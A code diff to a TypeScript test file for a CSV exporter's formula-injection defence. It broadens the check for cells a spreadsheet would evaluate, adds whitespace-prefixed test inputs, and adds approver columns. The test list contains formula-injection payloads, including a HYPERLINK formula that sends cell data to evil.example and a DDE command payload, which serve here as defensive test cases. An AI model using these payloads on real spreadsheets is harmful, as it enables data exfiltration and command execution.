@@ -13,7 +13,8 @@ const meta = { id: 'p', now: '2026-11-26T00:00:00.000Z' };
 const rows = (csv: string): string[][] => parse(csv.slice(1), { relaxColumnCount: false, record_delimiter: '\r\n' });
 
 /** What a spreadsheet would evaluate: a cell whose first non-blank character starts a formula, or a leading tab/CR/LF. */
-const evaluates = (cell: string): boolean => /^[\t\r\n]/.test(cell) || /^[ \u00A0\u3000]*[=+\-@＝＋－＠]/.test(cell);
+const evaluates = (cell: string): boolean =>
+  /^[\t\r\n]/.test(cell) || /^[ \u00A0\u3000\u2000-\u200B\uFEFF\v\f\t\r\n]*[=+\-@＝＋－＠]/.test(cell);
 
 const INJECTIONS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -29,6 +30,11 @@ const INJECTIONS = [
   '\u3000=1',
   '\r=1',
   '\n=cmd|" /C calc"!A0',
+  '\u2003=1+1',
+  '\u200B=1+1',
+  '\uFEFF=1+1',
+  '\v=1+1',
+  '\f=1+1',
 ];
 
 describe('plan CSV', () => {
@@ -132,6 +138,9 @@ describe('plan CSV', () => {
     for (const s of INJECTIONS) expect(neutraliseFormula(s)).toBe(`'${s}`);
     for (const s of ['Alice', '山田', 'a=b', ' x', '']) expect(neutraliseFormula(s)).toBe(s);
     expect(csvCell('a,"b"')).toBe('"a,""b"""');
+    // A spreadsheet that also splits on ; or TAB must see one cell.
+    expect(csvCell('Sato;=1+1')).toBe('"Sato;=1+1"');
+    expect(csvCell('Sato\t=1+1')).toBe('"Sato\t=1+1"');
   });
 
   it('streams in blocks that join to the same text', () => {
@@ -154,11 +163,26 @@ describe('run CSV', () => {
           errorMessage: '=invalid value, "x"',
         },
       ],
-    } as Pick<RunRecord, 'outcomes'>;
+      approvedBy: 'Ada Admin',
+      approvedById: 'aad-1',
+    } as Pick<RunRecord, 'outcomes' | 'approvedBy' | 'approvedById'>;
     const csv = runCsv(run);
-    expect(csv.startsWith('\uFEFFAction,UserPrincipalName,ImmutableId,Result,ErrorCode,ErrorMessage\r\n')).toBe(true);
+    expect(
+      csv.startsWith(
+        '\uFEFFAction,UserPrincipalName,ImmutableId,Result,ErrorCode,ErrorMessage,ApprovedBy,ApprovedByObjectId\r\n',
+      ),
+    ).toBe(true);
     const parsed = rows(csv);
-    expect(parsed[1]).toEqual(['Add', `a@${DOMAIN}`, 'I1', 'done (restored)', '', '']);
-    expect(parsed[2]).toEqual(['Update', `b@${DOMAIN}`, 'I2', 'failed', 'Request_BadRequest', `'=invalid value, "x"`]);
+    expect(parsed[1]).toEqual(['Add', `a@${DOMAIN}`, 'I1', 'done (restored)', '', '', 'Ada Admin', 'aad-1']);
+    expect(parsed[2]).toEqual([
+      'Update',
+      `b@${DOMAIN}`,
+      'I2',
+      'failed',
+      'Request_BadRequest',
+      `'=invalid value, "x"`,
+      'Ada Admin',
+      'aad-1',
+    ]);
   });
 });
